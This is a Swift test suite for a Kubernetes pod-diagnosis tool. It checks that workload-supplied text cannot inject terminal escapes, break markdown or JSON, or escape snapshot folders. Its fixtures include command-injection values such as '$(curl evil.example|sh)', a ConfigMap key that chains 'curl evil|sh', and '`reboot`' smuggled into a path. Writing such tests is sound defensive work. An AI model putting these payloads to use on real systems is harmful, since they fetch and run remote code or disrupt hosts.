import Foundation
import KubeModel
import PodDiagnosis
import PodDoctor
import TestAPIServerHarness
import Testing

/// Text written by workloads (log lines, event messages, names) stays text: escape sequences are
/// shown escaped, markdown cannot be broken out of, JSON stays valid, and nothing becomes a command.
@Suite("Hostile text")
struct HostileTextTests {
    static let hostile = "boom \u{1B}]0;owned\u{07}\u{1B}[2J\u{1B}[31mred\u{1B}[0m \u{9B}31m \u{202E}txt.exe ```\n# heading\n| a | b |"

    static var report: DiagnosisReport {
        let finding = Finding(
            cause: .appError, severity: .critical, confidence: .medium, container: "app`x",
            title: "container app crashes: \(hostile)", explanation: "The log says \(hostile)",
            evidence: [Evidence(source: "log", ref: "app (previous), line 3", text: hostile),
                       Evidence(source: "event", ref: "Warning BackOff \u{1B}[1m", text: "msg\u{0}with NUL")],
            fix: Fix(summary: "Fix \(hostile)", commands: ["kubectl logs web -c app"], yaml: "spec:\n  x: \"```\"\n  y: \u{1B}[31m\n"))
        return DiagnosisReport(pods: [PodReport(namespace: "shop", name: "web-1\u{1B}[8m", status: "CrashLoopBackOff", restarts: 3,
                                                owner: nil, findings: [finding])])
    }

    @Test func textShowsEscapeSequencesEscaped() {
        let text = TextReport(color: false, width: 100).render(Self.report)
        #expect(!text.unicodeScalars.contains { $0.value < 0x20 && $0 != "\n" }, "a raw control character reached the terminal")
        #expect(!text.unicodeScalars.contains { (0x7F...0x9F).contains($0.value) || (0x202A...0x202E).contains($0.value) })
        #expect(text.contains(#"\x1b[31mred"#))
        #expect(text.contains(#"\u{202e}"#))
        // With colour on, the only escape sequences are the renderer's own.
        let colored = TextReport(color: true, width: 100).render(Self.report)
        #expect(!colored.contains("\u{1B}]0;") && !colored.contains("\u{1B}[2J") && !colored.contains("\u{1B}[8m"))
    }

    @Test func markdownCannotBeBrokenOutOf() {
        let markdown = MarkdownReport(showHealthy: true).render(Self.report)
        #expect(!markdown.unicodeScalars.contains { $0.value < 0x20 && $0 != "\n" })
        // The YAML holds ``` : its block is fenced with more backticks, so the block ends where it should.
        #expect(markdown.contains("````yaml\n"))
        let lines = markdown.split(separator: "\n", omittingEmptySubsequences: false)
        #expect(!lines.contains { $0.hasPrefix("# heading") }, "a log line became a heading")
        // A table cell keeps its row: pipes inside are escaped.
        for line in lines where line.hasPrefix("| log |") { #expect(line.components(separatedBy: " | ").count == 3, "\(line)") }
    }

    @Test func jsonIsValidForAnyText() throws {
        let json = ReportJSON.encode(Self.report)
        let object = try #require(try JSONSerialization.jsonObject(with: Data(json.utf8)) as? [String: Any])
        let pods = try #require(object["pods"] as? [[String: Any]])
        let finding = try #require((pods.first?["findings"] as? [[String: Any]])?.first)
        let evidence = try #require(finding["evidence"] as? [[String: Any]])
        #expect(evidence.first?["text"] as? String == Self.hostile, "JSON keeps the exact text")
        // Invalid UTF-8 in a log is replaced when read, never passed through as broken bytes.
        let bytes: [UInt8] = Array("line ".utf8) + [0xFF, 0xFE, 0xC3] + Array(" end".utf8)
        let decoded = String(decoding: bytes, as: UTF8.self)
        #expect(try JSONSerialization.jsonObject(with: Data(ReportJSON.encode(DiagnosisReport(pods: [PodReport(
            namespace: "a", name: decoded, status: "Running", restarts: 0, owner: nil, findings: [])])).utf8)) is [String: Any])
    }

    /// A namespace, pod and log path written by a workload cannot turn a suggested command into `$(...)`.
    @Test func valuesFromTheClusterAreQuotedInCommands() throws {
        let folder = TestAPIServer.repositoryPath("Tests/Fixtures/scenarios/09-missing-entry-file-node")
        let scenario = try ScenarioFolder("09-missing-entry-file-node")
        var text = try String(contentsOfFile: folder + "/objects.json", encoding: .utf8)
        let namespace = scenario.expected.pod.namespace
        let evil = "\(namespace)$(curl evil.example|sh)"
        text = text.replacingOccurrences(of: "\"namespace\": \"\(namespace)\"", with: "\"namespace\": \"\(evil)\"")
        var objects = try ObjectSet.decode(json: Data(text.utf8))
        let logs = try SnapshotReader().read([folder]).objects.logs
        for (key, value) in logs {
            objects.logs[ObjectSet.LogKey(namespace: evil, pod: key.pod, container: key.container, previous: key.previous)] =
                value.replacingOccurrences(of: "/app/server.js", with: "/app/`reboot`/server.js")
        }
        let report = Doctor.diagnose(objects, now: scenario.now, podName: scenario.expected.pod.name)
        let commands = report.pods.flatMap(\.findings).flatMap(\.fix.commands)
        #expect(commands.contains { $0.contains("'\(evil)'") }, "\(commands)")
        for command in commands {
            // Every occurrence of a hostile value is inside single quotes (an odd number of quotes before it).
            for value in [evil, "`reboot`"] {
                var searchFrom = command.startIndex
                while let range = command.range(of: value, range: searchFrom..<command.endIndex) {
                    #expect(command[..<range.lowerBound].filter { $0 == "'" }.count % 2 == 1, "unquoted in: \(command)")
                    searchFrom = range.upperBound
                }
            }
        }
    }

    /// A snapshot never writes outside its folder whatever a name holds, and `--from` never follows a
    /// symbolic link out of the folder it was given.
    @Test func snapshotPathsStayInsideTheirFolder() throws {
        var objects = ObjectSet()
        objects.pods = [Pod(metadata: ObjectMeta(name: "../../escape", namespace: "../.."))]
        objects.logs[ObjectSet.LogKey(namespace: "../..", pod: "../../escape", container: "../x", previous: false)] = "log line"
        let base = NSTemporaryDirectory() + "poddoctor-paths-" + UUID().uuidString
        let output = base + "/snapshot"
        defer { try? FileManager.default.removeItem(atPath: base) }
        try SnapshotWriter().write(objects, to: output, takenAt: Date())
        let everything = FileManager.default.enumerator(atPath: base)?.compactMap { $0 as? String } ?? []
        #expect(everything.allSatisfy { $0 == "snapshot" || $0.hasPrefix("snapshot/") }, "\(everything)")
        // Read back: the log belongs to the same names.
        let read = try SnapshotReader().read([output])
        #expect(read.objects.logs[ObjectSet.LogKey(namespace: "../..", pod: "../../escape", container: "../x", previous: false)] == "log line")

        // A link out of the folder is not followed.
        let outside = base + "/outside.json"
        try #"{"apiVersion":"v1","kind":"Pod","metadata":{"name":"stolen","namespace":"x"}}"#.write(toFile: outside, atomically: true, encoding: .utf8)
        try FileManager.default.createSymbolicLink(atPath: output + "/link.json", withDestinationPath: outside)
        let again = try SnapshotReader().read([output])
        #expect(!again.objects.pods.contains { $0.metadata.name == "stolen" })
        #expect(again.skipped.contains { $0.contains("symbolic link") })
    }

    /// An image name and a key taken from an event message cannot break out of the suggested command.
    @Test func imageNamesAndKeysAreQuotedInCommands() throws {
        func pod(_ image: String, waiting: [String: Any]) throws -> Pod {
            try JSONDecoder().decode(Pod.self, from: JSONSerialization.data(withJSONObject: [
                "apiVersion": "v1", "kind": "Pod",
                "metadata": ["name": "web-1", "namespace": "shop", "creationTimestamp": "2026-11-25T13:00:00Z",
                             "ownerReferences": [["apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "web-5d9f", "uid": "1", "controller": true]],
                             "labels": ["pod-template-hash": "5d9f"]],
                "spec": ["containers": [["name": "app", "image": image, "env": [["name": "LEVEL", "valueFrom": ["configMapKeyRef": ["name": "cfg", "key": "level"]]]]]]],
                "status": ["phase": "Pending", "containerStatuses": [["name": "app", "ready": false, "restartCount": 0, "state": ["waiting": waiting]]]],
            ] as [String: Any]))
        }
        let evil = "web$(curl${IFS}evil|sh)"
        let image = DiagnosisEngine.diagnose(PodEvidence(pod: try pod(evil, waiting: ["reason": "InvalidImageName", "message": "Failed to apply default image tag"]),
                                                         now: Date(timeIntervalSince1970: 1_795_000_000)))
        let key = "lvl'; curl evil|sh; echo '"
        let config = DiagnosisEngine.diagnose(PodEvidence(pod: try pod("web:1", waiting: [
            "reason": "CreateContainerConfigError", "message": "couldn't find key \(key) in ConfigMap shop/cfg"]),
            configMaps: ["cfg": .found(ConfigMap(metadata: ObjectMeta(name: "cfg", namespace: "shop"), data: ["level": "x"]))],
            now: Date(timeIntervalSince1970: 1_795_000_000)))
        let commands = (image.findings + config.findings).flatMap(\.fix.commands)
        #expect(commands.filter { $0.contains("curl") }.count >= 2, "the hostile values reach the commands (quoted): \(commands)")
        for command in commands {
            // Outside single quotes there is no $( , backtick, ; or | coming from the values.
            // Single quotes as the shell reads them; `'\''` is a quote ending, an escaped quote, a quote opening.
            var inQuotes = false
            var outside = ""
            var escaped = false
            for character in command {
                if escaped { escaped = false; continue }
                if !inQuotes && character == "\\" { escaped = true; continue }
                if character == "'" { inQuotes.toggle(); continue }
                if !inQuotes { outside.append(character) }
            }
            #expect(!outside.contains("$(") && !outside.contains("curl"), "unquoted in: \(command)")
        }
    }
}
